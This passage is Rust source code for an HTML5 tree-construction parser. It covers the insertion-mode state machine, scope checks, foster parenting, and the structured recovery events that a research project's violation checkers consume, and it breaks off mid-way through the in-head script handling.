                self.event(TreeEventKind::StrayStartTag { tag: tag.name.to_string() });
                self.pop_through("select");
                self.reset_insertion_mode();
                Ctl::Reprocess(token)
            }
            Token::EndTag(tag)
                if matches!(
                    tag.name.as_str(),
                    "caption" | "table" | "tbody" | "tfoot" | "thead" | "tr" | "td" | "th"
                ) =>
            {
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                if self.in_table_scope(&tag.name) {
                    self.pop_through("select");
                    self.reset_insertion_mode();
                    return Ctl::Reprocess(token);
                }
                Ctl::Done
            }
            _ => self.in_select(token, tok),
        }
    }

    // ----- stack clearing helpers -----

    pub(crate) fn clear_to_table_context(&mut self) {
        self.pop_until_one_of(&["table", "template", "html"]);
    }

    pub(crate) fn clear_to_table_body_context(&mut self) {
        self.pop_until_one_of(&["tbody", "tfoot", "thead", "template", "html"]);
    }

    pub(crate) fn clear_to_table_row_context(&mut self) {
        self.pop_until_one_of(&["tr", "template", "html"]);
    }

    fn any_in_table_scope(&self, names: &[&str]) -> bool {
        names.iter().any(|n| self.in_table_scope(n))
    }
}
