//! Structured tree-construction events.
//!
//! The tree builder's error tolerance is not a single "parse error" bit: each
//! recovery action has a distinct *shape* (foster parenting, body merging,
//! head relocation, …) and the paper's Definition Violations map one-to-one
//! onto those shapes. [`TreeEvent`] records each recovery with enough detail
//! for the checkers to classify it without re-parsing.

use crate::dom::Namespace;

/// A tree-construction recovery event, with the character offset of the
/// triggering token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TreeEvent {
    pub kind: TreeEventKind,
    pub offset: usize,
}

/// What the parser tolerated and how it recovered.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum TreeEventKind {
    /// No DOCTYPE at the start of the document; quirks mode engaged.
    MissingDoctype,
    /// A DOCTYPE token appeared after the initial insertion mode.
    UnexpectedDoctype,
    /// The `html` element was created without an `<html>` tag.
    ImplicitHtml,
    /// The `head` element was created without a `<head>` tag.
    ImplicitHead,
    /// The `body` element was created without a `<body>` tag; `by` names the
    /// token that forced it (HF2's "content before body").
    ImplicitBody { by: String },
    /// While in head, a start tag that does not belong in head arrived; the
    /// parser closed the head and reprocessed the tag in the body (HF1's
    /// "broken head section").
    HeadClosedBy { tag: String },
    /// Metadata content (`meta`, `base`, `title`, …) arrived *after* the
    /// head was closed; the parser re-opened the head element for it.
    LateHeadContent { tag: String },
    /// A second `<head>` start tag was ignored.
    SecondHeadIgnored,
    /// A second `<body>` start tag was merged into the existing body
    /// element (HF3); `new_attrs` lists attribute names that were copied,
    /// `ignored_attrs` the ones dropped because they already existed.
    SecondBodyMerged { new_attrs: Vec<String>, ignored_attrs: Vec<String> },
    /// A second `<html>` start tag was merged into the html element.
    SecondHtmlMerged,
    /// A `<form>` start tag was ignored because a form element is already
    /// open (DE4's nested form).
    NestedFormIgnored,
    /// A node was foster-parented out of a table (HF4); `tag` is `None` for
    /// character data.
    FosterParented { tag: Option<String> },
    /// A start tag was ill-placed table content that forced recovery but was
    /// handled without foster parenting (e.g. implied `tbody`).
    TableStructureImplied { tag: String },
    /// An HTML breakout element appeared in foreign content; the parser
    /// popped back to HTML (HF5). `root_ns` is the namespace of the
    /// outermost foreign element that was open.
    ForeignBreakout { tag: String, root_ns: Namespace },
    /// An end tag in foreign content did not match the open foreign
    /// elements.
    ForeignEndTagMismatch { tag: String },
    /// A start tag was ignored because it cannot occur in the current
    /// context (e.g. `<td>` outside a table).
    StrayStartTag { tag: String },
    /// An end tag had no matching open element.
    StrayEndTag { tag: String },
    /// The adoption agency algorithm ran for a misnested formatting element.
    AdoptionAgency { tag: String },
    /// EOF arrived while elements were still open (beyond those whose end
    /// tags may be omitted). Raw material for DE1/DE2.
    EofWithOpenElements { names: Vec<String> },
    /// EOF arrived inside RCDATA/RAWTEXT/script text content (an unclosed
    /// `<textarea>`, `<script>`, …). `tag` is the element left open.
    EofInTextContent { tag: String },
    /// A self-closing slash on a non-void HTML element was ignored.
    SelfClosingNonVoid { tag: String },
}

impl TreeEventKind {
    /// Short stable identifier for reporting.
    pub fn id(&self) -> &'static str {
        use TreeEventKind::*;
        match self {
            MissingDoctype => "missing-doctype",
            UnexpectedDoctype => "unexpected-doctype",
            ImplicitHtml => "implicit-html",
            ImplicitHead => "implicit-head",
            ImplicitBody { .. } => "implicit-body",
            HeadClosedBy { .. } => "head-closed-by-element",
            LateHeadContent { .. } => "late-head-content",
            SecondHeadIgnored => "second-head-ignored",
            SecondBodyMerged { .. } => "second-body-merged",
            SecondHtmlMerged => "second-html-merged",
            NestedFormIgnored => "nested-form-ignored",
            FosterParented { .. } => "foster-parented",
            TableStructureImplied { .. } => "table-structure-implied",
            ForeignBreakout { .. } => "foreign-breakout",
            ForeignEndTagMismatch { .. } => "foreign-end-tag-mismatch",
            StrayStartTag { .. } => "stray-start-tag",
            StrayEndTag { .. } => "stray-end-tag",
            AdoptionAgency { .. } => "adoption-agency",
            EofWithOpenElements { .. } => "eof-with-open-elements",
            EofInTextContent { .. } => "eof-in-text-content",
            SelfClosingNonVoid { .. } => "self-closing-non-void",
        }
    }
}
