//! HTML tree construction (§13.2.6): the insertion-mode state machine.
//!
//! This is where the "error tolerance" the paper studies actually lives:
//! implied tags, foster parenting, body merging, form-pointer suppression,
//! head relocation, and foreign-content breakout are all implemented here —
//! and each recovery is recorded as a [`TreeEvent`] so the violation
//! checkers can see exactly what the parser had to fix.
//!
//! Known deviations from the full specification, chosen deliberately and
//! safe for the paper's checks (documented in DESIGN.md):
//! * `<template>` parses as an ordinary element (no separate template
//!   contents tree or "in template" insertion mode).
//! * Scripting is always disabled, so `<noscript>` content parses as markup
//!   (this matches the paper's crawler, which never executes scripts).
//! * Frameset handling is minimal (framesets are extinct in the corpus).

mod events;
mod foreign;
mod formatting;
mod in_body;
mod tables;

pub use events::{TreeEvent, TreeEventKind};
pub use formatting::FormatEntry;

use crate::atoms::Atom;
use crate::dom::{Document, ElemAttr, Namespace, NodeData, NodeId};
use crate::errors::ParseError;
use crate::tags;
use crate::tokenizer::{self, Tag, Token, Tokenizer};

/// Document quirks mode, determined by the DOCTYPE (§13.2.6.4.1).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum QuirksMode {
    NoQuirks,
    LimitedQuirks,
    Quirks,
}

/// Insertion modes (§13.2.6.4).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum InsertionMode {
    Initial,
    BeforeHtml,
    BeforeHead,
    InHead,
    InHeadNoscript,
    AfterHead,
    InBody,
    Text,
    InTable,
    InTableText,
    InCaption,
    InColumnGroup,
    InTableBody,
    InRow,
    InCell,
    InSelect,
    InSelectInTable,
    AfterBody,
    InFrameset,
    AfterFrameset,
    AfterAfterBody,
    AfterAfterFrameset,
}

/// Everything the parse produced: the DOM, the token stream, all errors and
/// recovery events, and the end-of-file element stack the DE checkers need.
#[derive(Debug)]
pub struct ParseOutput {
    /// The constructed DOM tree.
    pub dom: Document,
    /// Tokenizer and preprocessing parse errors, in source order.
    pub errors: Vec<ParseError>,
    /// Tree-construction recovery events.
    pub events: Vec<TreeEvent>,
    /// Quirks mode the document ended up in.
    pub quirks: QuirksMode,
    /// Names of the HTML elements still on the stack of open elements when
    /// EOF arrived (bottom-of-stack last). DE1/DE2's raw material.
    pub open_at_eof: Vec<String>,
}

impl ParseOutput {
    /// Whether any tokenizer error with the given code was recorded.
    pub fn has_error(&self, code: crate::errors::ErrorCode) -> bool {
        self.errors.iter().any(|e| e.code == code)
    }

    /// Iterate events of a particular shape.
    pub fn events_where<'a>(
        &'a self,
        pred: impl Fn(&TreeEventKind) -> bool + 'a,
    ) -> impl Iterator<Item = &'a TreeEvent> + 'a {
        self.events.iter().filter(move |e| pred(&e.kind))
    }
}

/// Observer for start tags as the parse loop pulls them off the tokenizer.
///
/// The parser itself retains no token stream; a caller that wants to see
/// start tags (with their raw attribute values, which the DOM no longer
/// shows) taps them here as they stream and decides per tag whether to
/// clone. The sink runs *before* the tree builder consumes the token, so
/// it observes every tag — including ones the builder then drops or merges.
pub type TagSink<'s> = &'s mut dyn FnMut(&Tag);

/// Parse a document (after preprocessing) into a [`ParseOutput`].
pub fn parse(input: &str) -> ParseOutput {
    parse_with_sink(input, &mut |_| {})
}

/// [`parse`], announcing every start tag to `sink` as it streams.
pub fn parse_with_sink(input: &str, sink: TagSink<'_>) -> ParseOutput {
    let tok = Tokenizer::new(input);
    run_to_completion(Builder::new(), tok, sink)
}

/// Parse an HTML *fragment* in the context of an element named
/// `context` (HTML namespace) — the algorithm behind `innerHTML` and
/// every string-based sanitizer (§13.2.4 "parsing HTML fragments").
///
/// The resulting [`ParseOutput::dom`] holds a synthetic `html` root whose
/// children are the fragment's nodes; use [`fragment_children`] or
/// serialize with [`crate::serializer::serialize_children`] on the root.
pub fn parse_fragment(input: &str, context: &str) -> ParseOutput {
    parse_fragment_with_sink(input, context, &mut |_| {})
}

/// [`parse_fragment`], announcing every start tag to `sink` as it streams.
pub fn parse_fragment_with_sink(input: &str, context: &str, sink: TagSink<'_>) -> ParseOutput {
    let mut tok = Tokenizer::new(input);
    // §13.2.4 step 11: set the tokenizer's initial state from the context
    // element's content model.
    tok.apply_default_feedback(context);
    run_to_completion(Builder::new_fragment(context), tok, sink)
}

/// The shared parse driver: pump tokens through the builder, then collect
/// the errors and assemble the [`ParseOutput`]. Document and fragment
/// parsing differ only in their builder/tokenizer setup, so the tag sink
/// taps the stream in exactly one place.
fn run_to_completion(mut b: Builder, mut tok: Tokenizer<'_>, sink: TagSink<'_>) -> ParseOutput {
    loop {
        b.token_offset = tok.position();
        let t = tok.next_token();
        if let Token::StartTag(tag) = &t {
            sink(tag);
        }
        let done = b.process(t, &mut tok);
        // Keep the tokenizer's CDATA rule in sync with the adjusted current
        // node (CDATA sections are only real in foreign content).
        tok.set_allow_cdata(b.current_is_foreign());
        if done {
            break;
        }
    }
    // Preprocessing errors first (matching the former eager-preprocessing
    // order), then tokenizer errors; the sort below is stable, so equal
    // offsets keep that order.
    let mut errors = tok.take_preprocess_errors();
    errors.extend(tok.take_errors());
    errors.sort_by_key(|e| e.offset);
    ParseOutput {
        dom: b.doc,
        errors,
        events: b.events,
        quirks: b.quirks,
        open_at_eof: b.open_at_eof,
    }
}

/// The fragment nodes of a [`parse_fragment`] output: the children of the
/// synthetic root element.
pub fn fragment_children(out: &ParseOutput) -> Vec<NodeId> {
    let root = out.dom.root();
    match out.dom.children(root).next() {
        Some(html) => out.dom.children(html).collect(),
        None => Vec::new(),
    }
}

/// The tree builder.
pub(crate) struct Builder {
    pub doc: Document,
    pub mode: InsertionMode,
    pub orig_mode: InsertionMode,
    pub open: Vec<NodeId>,
    pub formatting: Vec<FormatEntry>,
    pub head: Option<NodeId>,
    pub form: Option<NodeId>,
    pub frameset_ok: bool,
    pub quirks: QuirksMode,
    pub events: Vec<TreeEvent>,
    /// Offset of the token currently being processed.
    pub token_offset: usize,
    /// Pending character data in "in table text" mode.
    pub pending_table_text: String,
    /// Strip one leading LF from the next character token (after `<pre>`,
    /// `<listing>`, `<textarea>`).
    pub ignore_lf: bool,
    /// Names on the open-elements stack when EOF was first seen.
    pub open_at_eof: Vec<String>,
    /// The spec's foster-parenting flag: set while a token is processed via
    /// the "in table anything else" path.
    pub foster: bool,
    /// Fragment parsing: the context element's (HTML) tag name.
    pub fragment_context: Option<String>,
    /// Set once "stop parsing" has run.
    pub done: bool,
}

/// What a mode handler decided about the current token.
#[derive(Debug, Clone)]
pub(crate) enum Ctl {
    /// Fully handled.
    Done,
    /// Process the token again (the mode usually changed).
    Reprocess(Token),
}

impl Builder {
    fn new() -> Self {
        Builder {
            doc: Document::new(),
            mode: InsertionMode::Initial,
            orig_mode: InsertionMode::InBody,
            open: Vec::new(),
            formatting: Vec::new(),
            head: None,
            form: None,
            frameset_ok: true,
            quirks: QuirksMode::NoQuirks,
            events: Vec::new(),
            token_offset: 0,
            pending_table_text: String::new(),
            ignore_lf: false,
            open_at_eof: Vec::new(),
            foster: false,
            fragment_context: None,
            done: false,
        }
    }

    /// §13.2.4: builder primed for fragment parsing — a synthetic `html`
    /// root on the stack, insertion mode reset against the context element,
    /// and the form pointer set when the context is a form.
    fn new_fragment(context: &str) -> Self {
        let mut b = Builder::new();
        let root = b.doc.create_element("html", Namespace::Html, Vec::new());
        let doc_root = b.doc.root();
        b.doc.append(doc_root, root);
        b.open.push(root);
        b.fragment_context = Some(context.to_owned());
        if context == "form" {
            // The spec sets the pointer to the nearest form ancestor; for a
            // string context the context element itself is that form.
            b.form = Some(root);
        }
        b.reset_insertion_mode();
        b
    }

    /// Process one token; returns true when parsing is finished.
    fn process(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> bool {
        if matches!(token, Token::Eof) && self.open_at_eof.is_empty() {
            self.open_at_eof = self
                .open
                .iter()
                .filter_map(|&id| self.doc.element(id).map(|e| e.name.to_string()))
                .collect();
        }
        // Handle the post-<pre>/<textarea> LF suppression.
        let token = if self.ignore_lf {
            self.ignore_lf = false;
            match token {
                Token::Characters(s) => {
                    let stripped = s.strip_prefix('\n').map(str::to_owned).unwrap_or(s);
                    if stripped.is_empty() {
                        return false;
                    }
                    Token::Characters(stripped)
                }
                other => other,
            }
        } else {
            token
        };

        let mut cur = token;
        // Reprocessing loop; bounded to defend against dispatch bugs.
        for _ in 0..200 {
            let ctl = self.dispatch(cur, tok);
            match ctl {
                Ctl::Done => return self.done,
                Ctl::Reprocess(t) => cur = t,
            }
        }
        debug_assert!(false, "reprocess loop did not converge");
        self.done
    }

    /// §13.2.6: tree construction dispatcher — HTML rules or foreign
    /// content rules depending on the adjusted current node.
    fn dispatch(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        if self.use_foreign_rules(&token) {
            self.foreign_content(token, tok)
        } else {
            self.mode_dispatch(token, tok)
        }
    }

    fn mode_dispatch(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match self.mode {
            InsertionMode::Initial => self.initial(token),
            InsertionMode::BeforeHtml => self.before_html(token),
            InsertionMode::BeforeHead => self.before_head(token),
            InsertionMode::InHead => self.in_head(token, tok),
            InsertionMode::InHeadNoscript => self.in_head_noscript(token, tok),
            InsertionMode::AfterHead => self.after_head(token, tok),
            InsertionMode::InBody => self.in_body(token, tok),
            InsertionMode::Text => self.text(token),
            InsertionMode::InTable => self.in_table(token, tok),
            InsertionMode::InTableText => self.in_table_text(token),
            InsertionMode::InCaption => self.in_caption(token, tok),
            InsertionMode::InColumnGroup => self.in_column_group(token, tok),
            InsertionMode::InTableBody => self.in_table_body(token, tok),
            InsertionMode::InRow => self.in_row(token, tok),
            InsertionMode::InCell => self.in_cell(token, tok),
            InsertionMode::InSelect => self.in_select(token, tok),
            InsertionMode::InSelectInTable => self.in_select_in_table(token, tok),
            InsertionMode::AfterBody => self.after_body(token, tok),
            InsertionMode::InFrameset => self.in_frameset(token, tok),
            InsertionMode::AfterFrameset => self.after_frameset(token, tok),
            InsertionMode::AfterAfterBody => self.after_after_body(token, tok),
            InsertionMode::AfterAfterFrameset => self.after_after_frameset(token, tok),
        }
    }

    // ----- events -----

    pub(crate) fn event(&mut self, kind: TreeEventKind) {
        self.events.push(TreeEvent { kind, offset: self.token_offset });
    }

    // ----- stack helpers -----

    pub(crate) fn current(&self) -> Option<NodeId> {
        self.open.last().copied()
    }

    pub(crate) fn current_name(&self) -> Option<&str> {
        self.current().and_then(|id| self.doc.element(id).map(|e| e.name.as_str()))
    }

    pub(crate) fn current_is_html(&self, name: &str) -> bool {
        self.current().map(|id| self.doc.is_html(id, name)).unwrap_or(false)
    }

    pub(crate) fn current_is_foreign(&self) -> bool {
        self.current()
            .and_then(|id| self.doc.element(id))
            .map(|e| e.ns != Namespace::Html)
            .unwrap_or(false)
    }

    /// Stack contains an HTML element with this name.
    pub(crate) fn stack_has(&self, name: &str) -> bool {
        self.open.iter().any(|&id| self.doc.is_html(id, name))
    }

    /// Pop elements through (and including) the first HTML element named
    /// `name` from the top of the stack.
    pub(crate) fn pop_through(&mut self, name: &str) {
        while let Some(id) = self.open.pop() {
            if self.doc.is_html(id, name) {
                break;
            }
        }
    }

    /// Pop until one of `names` is the current node (not popped).
    pub(crate) fn pop_until_one_of(&mut self, names: &[&str]) {
        while let Some(&id) = self.open.last() {
            match self.doc.html_name(id) {
                Some(n) if names.contains(&n) => break,
                // Stop at the root html element regardless.
                _ if self.open.len() == 1 => break,
                _ => {
                    self.open.pop();
                }
            }
        }
    }

    // ----- scope checks (§13.2.4.2) -----

    fn in_scope_with(&self, name: &str, extra: &[&str]) -> bool {
        for &id in self.open.iter().rev() {
            if let Some(e) = self.doc.element(id) {
                match e.ns {
                    Namespace::Html => {
                        if e.name == name {
                            return true;
                        }
                        if matches!(
                            e.name.as_str(),
                            "applet"
                                | "caption"
                                | "html"
                                | "table"
                                | "td"
                                | "th"
                                | "marquee"
                                | "object"
                                | "template"
                        ) || extra.contains(&e.name.as_str())
                        {
                            return false;
                        }
                    }
                    Namespace::MathMl => {
                        if matches!(
                            e.name.as_str(),
                            "mi" | "mo" | "mn" | "ms" | "mtext" | "annotation-xml"
                        ) {
                            return false;
                        }
                    }
                    Namespace::Svg => {
                        if matches!(e.name.as_str(), "foreignObject" | "desc" | "title") {
                            return false;
                        }
                    }
                }
            }
        }
        false
    }

    pub(crate) fn in_scope(&self, name: &str) -> bool {
        self.in_scope_with(name, &[])
    }

    pub(crate) fn in_button_scope(&self, name: &str) -> bool {
        self.in_scope_with(name, &["button"])
    }

    pub(crate) fn in_list_item_scope(&self, name: &str) -> bool {
        self.in_scope_with(name, &["ol", "ul"])
    }

    pub(crate) fn in_table_scope(&self, name: &str) -> bool {
        for &id in self.open.iter().rev() {
            if let Some(e) = self.doc.element(id) {
                if e.ns == Namespace::Html {
                    if e.name == name {
                        return true;
                    }
                    if matches!(e.name.as_str(), "html" | "table" | "template") {
                        return false;
                    }
                }
            }
        }
        false
    }

    pub(crate) fn in_select_scope(&self, name: &str) -> bool {
        for &id in self.open.iter().rev() {
            if let Some(e) = self.doc.element(id) {
                if e.ns == Namespace::Html {
                    if e.name == name {
                        return true;
                    }
                    if !matches!(e.name.as_str(), "optgroup" | "option") {
                        return false;
                    }
                }
            }
        }
        false
    }

    /// Any of `names` is in (default) scope.
    pub(crate) fn any_in_scope(&self, names: &[&str]) -> bool {
        names.iter().any(|n| self.in_scope(n))
    }

    // ----- insertion -----

    /// The "appropriate place for inserting a node": the current node, or a
    /// foster parent position when `foster` is set and we sit in table
    /// structure (§13.2.6.1). Returns (parent, before-sibling).
    pub(crate) fn insertion_place(&self, foster: bool) -> (NodeId, Option<NodeId>) {
        let target = self.current().unwrap_or_else(|| self.doc.root());
        if foster {
            if let Some(name) = self.doc.html_name(target) {
                if matches!(name, "table" | "tbody" | "tfoot" | "thead" | "tr") {
                    // Find the last table on the stack.
                    if let Some(&table) =
                        self.open.iter().rev().find(|&&id| self.doc.is_html(id, "table"))
                    {
                        if self.doc.node(table).parent.is_some() {
                            return (self.doc.node(table).parent.unwrap(), Some(table));
                        }
                        // Table has no parent (fragment case): insert into
                        // the element before the table on the stack.
                        let idx = self.open.iter().position(|&id| id == table).unwrap();
                        if idx > 0 {
                            return (self.open[idx - 1], None);
                        }
                    }
                }
            }
        }
        (target, None)
    }

    /// Insert an element for `tag` at the appropriate place and push it on
    /// the stack.
    pub(crate) fn insert_element(&mut self, tag: &Tag, ns: Namespace, foster: bool) -> NodeId {
        let foster = foster || self.foster;
        let name = match ns {
            Namespace::Svg => tags::svg_tag_fixup_atom(&tag.name),
            _ => tag.name.clone(),
        };
        let attrs = tag
            .attrs
            .iter()
            .map(|a| ElemAttr { name: adjust_foreign_attr(ns, &a.name), value: a.value.clone() })
            .collect();
        let id = self.doc.create_element_at(name, ns, attrs, tag.offset);
        let (parent, before) = self.insertion_place(foster);
        if foster && before.is_some() {
            self.event(TreeEventKind::FosterParented { tag: Some(tag.name.to_string()) });
        }
        match before {
            Some(b) => self.doc.insert_before(b, id),
            None => self.doc.append(parent, id),
        }
        self.open.push(id);
        id
    }

    /// Insert an HTML element (normal path).
    pub(crate) fn insert_html(&mut self, tag: &Tag) -> NodeId {
        self.insert_element(tag, Namespace::Html, false)
    }

    /// Insert an HTML element and immediately pop it (void elements),
    /// acknowledging the self-closing flag.
    pub(crate) fn insert_void(&mut self, tag: &Tag) -> NodeId {
        let id = self.insert_html(tag);
        self.open.pop();
        id
    }

    /// Record the spec error for self-closing syntax on a non-void HTML
    /// start tag (the flag is never acknowledged for those).
    pub(crate) fn check_self_closing(&mut self, tag: &Tag) {
        if tag.self_closing && !tags::is_void(&tag.name) {
            self.event(TreeEventKind::SelfClosingNonVoid { tag: tag.name.to_string() });
        }
    }

    /// Insert character data at the appropriate place (honouring foster
    /// parenting when in table structure).
    pub(crate) fn insert_chars(&mut self, text: &str, foster: bool) {
        let foster = foster || self.foster;
        if text.is_empty() {
            return;
        }
        let (parent, before) = self.insertion_place(foster);
        match before {
            Some(b) => {
                self.event(TreeEventKind::FosterParented { tag: None });
                self.doc.insert_text_before(b, text);
            }
            None => self.doc.append_text(parent, text),
        }
    }

    pub(crate) fn insert_comment(&mut self, text: &str) {
        let (parent, before) = self.insertion_place(false);
        let id = self.doc.create(NodeData::Comment(text.to_owned()));
        match before {
            Some(b) => self.doc.insert_before(b, id),
            None => self.doc.append(parent, id),
        }
    }

    fn insert_comment_on(&mut self, parent: NodeId, text: &str) {
        let id = self.doc.create(NodeData::Comment(text.to_owned()));
        self.doc.append(parent, id);
    }

    // ----- implied end tags -----

    pub(crate) fn generate_implied_end_tags(&mut self, except: Option<&str>) {
        while let Some(name) = self.current_name() {
            if tags::implied_end_tag(name) && Some(name) != except {
                self.open.pop();
            } else {
                break;
            }
        }
    }

    // ----- generic text-content elements -----

    /// Generic raw text / RCDATA element parsing (§13.2.6.2).
    pub(crate) fn generic_text_element(
        &mut self,
        tag: &Tag,
        tok: &mut Tokenizer<'_>,
        rawtext: bool,
    ) {
        self.insert_html(tag);
        tok.set_state(if rawtext { tokenizer::State::Rawtext } else { tokenizer::State::Rcdata });
        tok.set_last_start_tag(&tag.name);
        self.orig_mode = self.mode;
        self.mode = InsertionMode::Text;
    }

    // ----- reset insertion mode (§13.2.6.4.22 "reset the insertion mode
    // appropriately") -----

    pub(crate) fn reset_insertion_mode(&mut self) {
        for (i, &id) in self.open.iter().enumerate().rev() {
            let last = i == 0;
            let Some(e) = self.doc.element(id) else { continue };
            if e.ns != Namespace::Html {
                continue;
            }
            // In the fragment case the bottom-most node is judged as the
            // context element (§13.2.6.4.22 step 2).
            let name: &str =
                if last { self.fragment_context.as_deref().unwrap_or(&e.name) } else { &e.name };
            match name {
                "select" => {
                    // Check for an enclosing table.
                    let mut mode = InsertionMode::InSelect;
                    for &anc in self.open[..i].iter().rev() {
                        match self.doc.html_name(anc) {
                            Some("template") => break,
                            Some("table") => {
                                mode = InsertionMode::InSelectInTable;
                                break;
                            }
                            _ => {}
                        }
                    }
                    self.mode = mode;
                    return;
                }
                "td" | "th" if !last => {
                    self.mode = InsertionMode::InCell;
                    return;
                }
                "tr" => {
                    self.mode = InsertionMode::InRow;
                    return;
                }
                "tbody" | "thead" | "tfoot" => {
                    self.mode = InsertionMode::InTableBody;
                    return;
                }
                "caption" => {
                    self.mode = InsertionMode::InCaption;
                    return;
                }
                "colgroup" => {
                    self.mode = InsertionMode::InColumnGroup;
                    return;
                }
                "table" => {
                    self.mode = InsertionMode::InTable;
                    return;
                }
                "head" if !last => {
                    self.mode = InsertionMode::InHead;
                    return;
                }
                "body" => {
                    self.mode = InsertionMode::InBody;
                    return;
                }
                "frameset" => {
                    self.mode = InsertionMode::InFrameset;
                    return;
                }
                "html" => {
                    self.mode = if self.head.is_none() {
                        InsertionMode::BeforeHead
                    } else {
                        InsertionMode::AfterHead
                    };
                    return;
                }
                _ => {}
            }
            if last {
                self.mode = InsertionMode::InBody;
                return;
            }
        }
        self.mode = InsertionMode::InBody;
    }

    // ----- stop parsing -----

    pub(crate) fn stop_parsing(&mut self) -> Ctl {
        // Report elements whose end tags were genuinely missing at EOF.
        let omittable = [
            "dd", "dt", "li", "optgroup", "option", "p", "rb", "rp", "rt", "rtc", "tbody", "td",
            "tfoot", "th", "thead", "tr", "body", "html",
        ];
        let names: Vec<String> = self
            .open
            .iter()
            .filter_map(|&id| self.doc.element(id).map(|e| e.name.as_str()))
            .filter(|n| !omittable.contains(n))
            .map(str::to_owned)
            .collect();
        if !names.is_empty() {
            self.event(TreeEventKind::EofWithOpenElements { names });
        }
        self.done = true;
        Ctl::Done
    }

    // =====================================================================
    // Insertion modes: document prologue
    // =====================================================================

    fn initial(&mut self, token: Token) -> Ctl {
        match token {
            Token::Characters(s) => {
                let rest = skip_leading_whitespace(&s);
                if rest.is_empty() {
                    return Ctl::Done;
                }
                self.event(TreeEventKind::MissingDoctype);
                self.quirks = QuirksMode::Quirks;
                self.mode = InsertionMode::BeforeHtml;
                Ctl::Reprocess(Token::Characters(rest.to_owned()))
            }
            Token::Comment(c) => {
                let root = self.doc.root();
                self.insert_comment_on(root, &c);
                Ctl::Done
            }
            Token::Doctype(d) => {
                self.quirks = doctype_quirks(&d);
                let node = NodeData::Doctype {
                    name: d.name.clone().unwrap_or_default(),
                    public_id: d.public_id.clone().unwrap_or_default(),
                    system_id: d.system_id.clone().unwrap_or_default(),
                };
                let id = self.doc.create(node);
                let root = self.doc.root();
                self.doc.append(root, id);
                self.mode = InsertionMode::BeforeHtml;
                Ctl::Done
            }
            other => {
                self.event(TreeEventKind::MissingDoctype);
                self.quirks = QuirksMode::Quirks;
                self.mode = InsertionMode::BeforeHtml;
                Ctl::Reprocess(other)
            }
        }
    }

    fn before_html(&mut self, token: Token) -> Ctl {
        match token {
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::Comment(c) => {
                let root = self.doc.root();
                self.insert_comment_on(root, &c);
                Ctl::Done
            }
            Token::Characters(s) => {
                let rest = skip_leading_whitespace(&s);
                if rest.is_empty() {
                    return Ctl::Done;
                }
                self.create_html_implied();
                Ctl::Reprocess(Token::Characters(rest.to_owned()))
            }
            Token::StartTag(ref tag) if tag.name == "html" => {
                let id = self.doc.create_element_at(
                    "html",
                    Namespace::Html,
                    tag.attrs
                        .iter()
                        .map(|a| ElemAttr { name: a.name.clone(), value: a.value.clone() })
                        .collect(),
                    tag.offset,
                );
                let root = self.doc.root();
                self.doc.append(root, id);
                self.open.push(id);
                self.mode = InsertionMode::BeforeHead;
                Ctl::Done
            }
            Token::EndTag(ref tag)
                if !matches!(tag.name.as_str(), "head" | "body" | "html" | "br") =>
            {
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            other => {
                self.create_html_implied();
                Ctl::Reprocess(other)
            }
        }
    }

    fn create_html_implied(&mut self) {
        self.event(TreeEventKind::ImplicitHtml);
        let id = self.doc.create_element("html", Namespace::Html, Vec::new());
        let root = self.doc.root();
        self.doc.append(root, id);
        self.open.push(id);
        self.mode = InsertionMode::BeforeHead;
    }

    fn before_head(&mut self, token: Token) -> Ctl {
        match token {
            Token::Characters(s) => {
                let rest = skip_leading_whitespace(&s);
                if rest.is_empty() {
                    return Ctl::Done;
                }
                self.create_head_implied();
                Ctl::Reprocess(Token::Characters(rest.to_owned()))
            }
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::StartTag(ref tag) if tag.name == "html" => {
                // Handled by the in-body rule (attribute merge).
                self.merge_html_attrs(tag);
                Ctl::Done
            }
            Token::StartTag(ref tag) if tag.name == "head" => {
                let id = self.insert_html(tag);
                self.head = Some(id);
                self.mode = InsertionMode::InHead;
                Ctl::Done
            }
            Token::EndTag(ref tag)
                if !matches!(tag.name.as_str(), "head" | "body" | "html" | "br") =>
            {
                self.event(TreeEventKind::StrayEndTag { tag: tag.name.to_string() });
                Ctl::Done
            }
            other => {
                self.create_head_implied();
                Ctl::Reprocess(other)
            }
        }
    }

    fn create_head_implied(&mut self) {
        self.event(TreeEventKind::ImplicitHead);
        let tag = Tag::named("head");
        let id = self.insert_html(&tag);
        self.head = Some(id);
        self.mode = InsertionMode::InHead;
    }

    fn in_head(&mut self, token: Token, tok: &mut Tokenizer<'_>) -> Ctl {
        match token {
            Token::Characters(s) => {
                let (ws, rest) = split_leading_whitespace(&s);
                if !ws.is_empty() {
                    self.insert_chars(ws, false);
                }
                if rest.is_empty() {
                    return Ctl::Done;
                }
                self.close_head_for(&describe_chars(rest));
                Ctl::Reprocess(Token::Characters(rest.to_owned()))
            }
            Token::Comment(c) => {
                self.insert_comment(&c);
                Ctl::Done
            }
            Token::Doctype(_) => {
                self.event(TreeEventKind::UnexpectedDoctype);
                Ctl::Done
            }
            Token::StartTag(ref tag) => match tag.name.as_str() {
                "html" => {
                    self.merge_html_attrs(tag);
                    Ctl::Done
                }
                "base" | "basefont" | "bgsound" | "link" | "meta" => {
                    self.insert_void(tag);
                    Ctl::Done
                }
                "title" => {
                    self.generic_text_element(tag, tok, false);
                    Ctl::Done
                }
                "noframes" | "style" => {
                    self.generic_text_element(tag, tok, true);
                    Ctl::Done
                }
                "noscript" => {
                    // Scripting disabled: parse noscript content as markup.
                    self.insert_html(tag);
                    self.mode = InsertionMode::InHeadNoscript;
                    Ctl::Done
                }
                "script" => {
                    self.insert_html(tag);
                    tok.set_state(tokenizer::State::ScriptData);
                    tok.set_last_start_tag("script");
                    self.orig_mode = self.mode;
